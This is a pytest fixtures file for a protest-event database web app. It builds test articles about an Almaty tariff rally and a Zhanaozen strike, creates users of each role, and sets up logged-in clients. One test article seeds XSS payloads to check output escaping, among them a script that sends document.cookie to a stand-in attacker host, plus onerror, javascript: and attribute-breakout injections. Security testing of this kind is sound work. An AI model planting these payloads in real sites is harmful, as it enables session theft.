"""Fixtures of the web tests: a small database built by hand (three outlets reporting one rally,
a strike, and an article full of markup and script), users of every role, and a logged-in client.

Passwords are hashed with a low scrypt cost here so the tests stay fast; the hash string carries
its parameters, so the app verifies them as it would any stored hash.
"""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient

from protestwatch.model import (
    ActorType,
    DatePrecision,
    Event,
    Evidence,
    Form,
    GeoPrecision,
    Issue,
    Organizer,
    Source,
    Target,
    TargetType,
)  # fmt: skip
from protestwatch.store import open_store
from protestwatch.store.clusters import cluster_store
from protestwatch.model import Article
from protestwatch.web import create_app
from protestwatch.web.security import hash_password

PASSWORD = "correct horse battery staple"
USERS = {"ada": "admin", "cody": "coder", "vera": "viewer"}

XSS_TITLE = '<script>alert("title")</script> Rally <img src=x onerror=alert(1)>'
XSS_TEXT = (
    "Dozens of workers rallied outside the smelter in Balkhash on 3 March 2022. "
    '<script>document.location="https://evil.example/?c="+document.cookie</script> '
    "The organisers <img src=x onerror=alert('img')> demanded higher wages. "
    '<a href="javascript:alert(1)">click</a> <svg onload=alert(2)>'
)
XSS_ORGANIZER = "<script>alert('org')</script> Union"

RALLY = {
    "wire": "More than 300 residents rallied in central Almaty on 14 October 2023 against higher "
            "heating tariffs. Police detained 22 people.",
    "daily": "About 300 people gathered in Almaty on Saturday 14 October 2023 to protest heating "
             "tariffs; at least 20 were detained.",
    "ngo": "Several hundred residents of Almaty protested the tariff increase on 14 October 2023. "
           "Seven activists were detained on their way.",
}  # fmt: skip
STRIKE = "Oil workers in Zhanaozen went on strike on 2 November 2023 over unpaid wages."


def span(text: str, phrase: str, article: str) -> Evidence:
    start = text.index(phrase)
    return Evidence(article, start, start + len(phrase))


def _event(eid: str, article: str, text: str, day: str, **fields: Any) -> Event:
    d = dt.date.fromisoformat(day)
    values: dict[str, Any] = {
        "id": eid, "date_start": d, "date_end": d, "date_precision": DatePrecision.DAY,
        "sources": (Source(article, f"https://news.example.org/{article}", f"Outlet {article}", d),),
    }  # fmt: skip
    values.update(fields)
    return Event(**values)


def rally_events() -> list[tuple[Article, Event]]:
    out = []
    sizes = {"wire": ("More than 300", 301, None), "daily": ("About 300", 300, 300),
             "ngo": ("Several hundred", 200, 900)}  # fmt: skip
    for name, text in RALLY.items():
        aid = f"a-{name}"
        size_text, low, high = sizes[name]
        first = text.split(".")[0] + "."
        event = _event(
            f"e-{name}", aid, text, "2023-10-14", country="KZ", admin1="Almaty", locality="Almaty",
            latitude=43.25, longitude=76.95, geo_precision=GeoPrecision.LOCALITY,
            size_text=size_text, size_low=low, size_high=high, issues=(Issue.PRICES_ECONOMY,),
            organizers=(Organizer("Fair Tariffs", ActorType.MOVEMENT),) if name != "daily" else (),
            confidence={"wire": 0.9, "daily": 0.7, "ngo": 0.45}[name],
            evidence={"event": (span(text, first, aid),),
                      "size_text": (span(text, size_text, aid),),
                      "locality": (span(text, "Almaty", aid),)},
        )  # fmt: skip
        article = Article(text=text, id=aid, title=f"Tariff rally ({name})", outlet=f"Outlet {name}",
                          url=f"https://news.example.org/{aid}", published=dt.date(2023, 10, 15))  # fmt: skip
        out.append((article, event))
    return out


def other_events() -> list[tuple[Article, Event]]:
    strike_article = Article(text=STRIKE, id="a-strike", title="Zhanaozen strike", outlet="Oil Daily",
                             published=dt.date(2023, 11, 3))  # fmt: skip
    strike = _event(
        "e-strike", "a-strike", STRIKE, "2023-11-02", country="KZ", admin1="Mangystau",
        locality="Zhanaozen", latitude=43.34, longitude=52.86, form=Form.STRIKE,
        issues=(Issue.LABOR_WAGES,), confidence=0.8,
        targets=(Target("Chinese operator", TargetType.FOREIGN_COMPANY, "CN"),),
        evidence={"event": (span(STRIKE, "went on strike", "a-strike"),)},
    )  # fmt: skip
    xss_article = Article(text=XSS_TEXT, id="a-xss", title=XSS_TITLE,
                          outlet='Outlet"><script>alert(3)</script>',
                          url="javascript:alert(document.domain)", published=dt.date(2022, 3, 4))  # fmt: skip
    xss = _event(
        "e-xss", "a-xss", XSS_TEXT, "2022-03-03", country="KZ", admin1="Karaganda",
        locality="<b onmouseover=alert(4)>Balkhash</b>", form=Form.DEMONSTRATE,
        organizers=(Organizer(XSS_ORGANIZER, ActorType.UNION),), issues=(Issue.LABOR_WAGES,),
        confidence=0.3, claims=("<script>alert('claim')</script>",),
        evidence={"event": (span(XSS_TEXT, "<script>document.location", "a-xss"),),
                  "organizers": (span(XSS_TEXT, "<img src=x onerror=alert('img')>", "a-xss"),)},
    )  # fmt: skip
    return [(strike_article, strike), (xss_article, xss)]


def build_database(path: Any) -> None:
    store = open_store(path)
    try:
        for article, event in rally_events() + other_events():
            store.add_article(article)
            store.save_coding(article.id, [event])
        cluster_store(store)
        for name, role in USERS.items():
            store.add_user(name, hash_password(PASSWORD, n=2**10), role)
    finally:
        store.close()


@pytest.fixture
def db_path(tmp_path):
    path = tmp_path / "web.db"
    build_database(path)
    return path


@pytest.fixture
def app(db_path):
    return create_app(db_path)


@pytest.fixture
def public_app(db_path):
    return create_app(db_path, public=True)


@pytest.fixture
def client(app):
    with TestClient(app) as c:
        yield c


@pytest.fixture
def public_client(public_app):
    with TestClient(public_app) as c:
        yield c


_CSRF_FIELD = re.compile(r'name="csrf_token" value="([^"]+)"')


def login_form_token(client: TestClient) -> str:
    page = client.get("/login")
    assert page.status_code == 200
    found = _CSRF_FIELD.search(page.text)
    assert found, "the login form has no csrf_token field"
    return found.group(1)


def log_in(client: TestClient, name: str, password: str = PASSWORD) -> str:
    """Log ``name`` in with the login form; returns the session's CSRF token."""
    token = login_form_token(client)
    r = client.post("/login", data={"username": name, "password": password, "csrf_token": token,
                                    "next": "/"}, follow_redirects=False)  # fmt: skip
    assert r.status_code == 303, r.text
    me = client.get("/api/v1/me").json()
    assert me["user"] == name
    return me["csrf_token"]


def as_user(app: Any, name: str) -> tuple[TestClient, str]:
    c = TestClient(app)
    return c, log_in(c, name)


@pytest.fixture
def coder(app):
    c, csrf = as_user(app, "cody")
    c.headers["X-CSRF-Token"] = csrf
    yield c
    c.close()


@pytest.fixture
def viewer(app):
    c, csrf = as_user(app, "vera")
    c.headers["X-CSRF-Token"] = csrf
    yield c
    c.close()


@pytest.fixture
def admin(app):
    c, csrf = as_user(app, "ada")
    c.headers["X-CSRF-Token"] = csrf
    yield c
    c.close()
